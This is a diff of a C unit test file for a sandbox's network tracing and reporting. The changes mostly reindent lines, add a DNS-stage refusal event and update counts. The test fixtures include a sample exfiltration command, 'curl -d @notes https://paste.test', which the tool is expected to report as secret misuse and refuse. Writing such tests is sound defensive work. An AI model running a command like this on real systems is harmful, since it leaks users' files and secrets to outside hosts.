@@ -247,9 +247,9 @@ static void test_incomplete(void **state)
 }
 
 static const char net_meta[] = "{\"v\":1,\"spec\":{\"network\":{\"net\":\"allow\",\"allow\":[\"a."
-                               "test\",\"a.test:80\",\"GET "
+			       "test\",\"a.test:80\",\"GET "
 			       "b.test/x/**\",\"@s\"],\"sets\":{\"@s\":[\"c.test\",\"10.0.0.0/"
-                               "8\"]},\"deny\":[\"*.d.test\"]}}}";
+			       "8\"]},\"deny\":[\"*.d.test\"]}}}";
 
 static const char *const net_events[] = {
 	"{\"kind\":\"trace.started\",\"sources\":[\"processes\",\"files\",\"network\"]}",
@@ -261,8 +261,10 @@ static const char *const net_events[] = {
 	"\"-c\",\"curl -d @notes https://paste.test; true\"],\"exec\":\"ex_a\"}",
 	"{\"kind\":\"process.fork\",\"pid\":3,\"child_pid\":4,\"exec\":\"ex_a\"}",
 	"{\"kind\":\"process.exec\",\"pid\":4,\"ppid\":3,\"path\":\"/bin/"
-        "curl\",\"argv\":[\"curl\"],"
+	"curl\",\"argv\":[\"curl\"],"
 	"\"exec\":\"ex_a\"}",
+	"{\"kind\":\"net.refused\",\"pid\":4,\"exec\":\"ex_a\",\"host\":\"paste.test\",\"stage\":"
+	"\"dns\"}",
 	"{\"kind\":\"net.refused\",\"pid\":4,\"exec\":\"ex_a\",\"flow\":1,\"protocol\":\"tcp\","
 	"\"host\":\"paste.test\",\"address\":\"198.18.0.1\",\"port\":443,\"rule\":\"default: not "
 	"in the allow list\",\"reason\":\"a sentence\",\"stage\":\"connect\"}",
@@ -300,19 +302,19 @@ static void test_network_text(void **state)
 {
 	static const char *const wants[] = {
 		"UTC\nMISUSED   secret KEY on its way to paste.test:443 in the header by curl in "
-	        "curl "
+		"curl "
 		"-d @notes https://paste.test; true\n"
 		"REFUSED   paste.test:443 by curl in curl -d @notes https://paste.test; true (not "
-	        "in "
+		"in "
 		"the allow list)\n"
 		"ERROR     the network gateway died: SIGSEGV\n"
 		"SHADOW    s.test:80 would be refused, by curl in",
 		"(deny s.test)\n",
 		"Network   a.test, b.test (1.2 MB in, 40 KB out); 1 place failed; secrets: KEY "
-	        "used 1 "
+		"used 1 "
 		"time at a.test\n",
-		"Observed  processes, files, network complete: 19 events, 0 dropped, 0 blind; 1 "
-	        "host "
+		"Observed  processes, files, network complete: 20 events, 0 dropped, 0 blind; 1 "
+		"host "
 		"read without its requests (pinned TLS)\n",
 		"Enforced  allow list of 4 hosts but 1 host, replaced 1 time",
 	};
@@ -355,8 +357,8 @@ static void test_network_json(void **state)
 	assert_int_equal(json_integer_value(json_object_get(network, "bytes_in")), 1258291);
 	assert_int_equal(json_array_size(json_object_get(network, "list")), 5);
 	assert_null(strstr(out.p, "secret thing"));
-	assert_int_equal(json_array_size(json_object_get(root, "refused")), 2);
-	row = json_array_get(json_object_get(root, "refused"), 0);
+	assert_int_equal(json_array_size(json_object_get(root, "refused")), 3);
+	row = json_array_get(json_object_get(root, "refused"), 1);
 	assert_string_equal(json_string_value(json_object_get(row, "host")), "paste.test");
 	assert_string_equal(json_string_value(json_object_get(row, "program")), "curl");
 	assert_string_equal(json_string_value(json_object_get(row, "reason")), "a sentence");
@@ -380,14 +382,14 @@ static void test_network_unwatched(void **state)
 		{"{\"spec\":{\"network\":{\"net\":\"none\"}}}",
 			"Network   not watched (no network)", "no network"},
 		{"{\"spec\":{\"network\":{\"net\":\"open\",\"allow\":[\"10.0.0.1\"],\"shadow\":"
-	         "true}}}",
+		 "true}}}",
 			"Network   not watched (tracing left it out)",
 			"public network and 1 host, in shadow: nothing was refused"},
 	};
 	static const char *const lines[] = {
 		"{\"kind\":\"trace.started\",\"sources\":[\"processes\"]}",
 		"{\"kind\":\"net.refused\",\"pid\":4,\"flow\":2,\"host\":\"s.test\",\"shadow\":"
-	        "true}",
+		"true}",
 		NULL,
 	};
 
